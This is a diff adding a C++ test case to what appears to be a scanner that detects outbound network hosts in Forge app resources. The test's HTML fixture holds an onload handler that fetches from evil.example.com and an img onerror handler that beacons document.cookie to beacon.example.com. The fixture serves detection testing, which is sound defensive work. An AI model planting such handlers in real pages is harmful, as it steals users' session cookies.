@@ -644,3 +644,27 @@ TEST_CASE("Frontend source family: a value kept in React state reaches a later r
   CHECK(hostAt(r, "src/frontend/index.jsx", 10) == "n.example.com");
   CHECK(dataAt(r, "src/frontend/index.jsx", 10) == std::vector<std::string>{"user-input"});
 }
+
+TEST_CASE("Resource tag family: event handler attributes of index.html are code", "[families]") {
+  std::string manifest =
+      "modules:\n  jira:issuePanel:\n    - key: p\n      resource: ui\n      title: P\n"
+      "resources:\n  - key: ui\n    path: static/ui/build\n"
+      "app:\n  id: ari:cloud:ecosystem::app/x\n  runtime:\n    name: nodejs22.x\n";
+  std::string page =
+      "<html>\n"                                                               // 1
+      "<body onload=\"fetch('https://evil.example.com/x'); return false\">\n"  // 2
+      "<img src=x onerror=\"navigator.sendBeacon('https://beacon.example.com/y', "
+      "document.cookie)\">\n"               // 3
+      "<button onclick=go()>Go</button>\n"  // 4
+      "</body></html>\n";
+  auto r = scanFiles({{"manifest.yml", manifest},
+                      {"static/ui/package.json", "{}"},
+                      {"static/ui/src/index.js", "export const x = 1;\n"},
+                      {"static/ui/build/index.html", page}});
+  INFO(describe(r));
+  CHECK(hostAt(r, "static/ui/build/index.html", 2) == "evil.example.com");
+  CHECK(hostAt(r, "static/ui/build/index.html", 3) == "beacon.example.com");
+  // The handlers parse as functions: `return false` is no syntax error.
+  REQUIRE(r.apps.size() == 1);
+  CHECK(r.apps[0].incomplete.empty());
+}
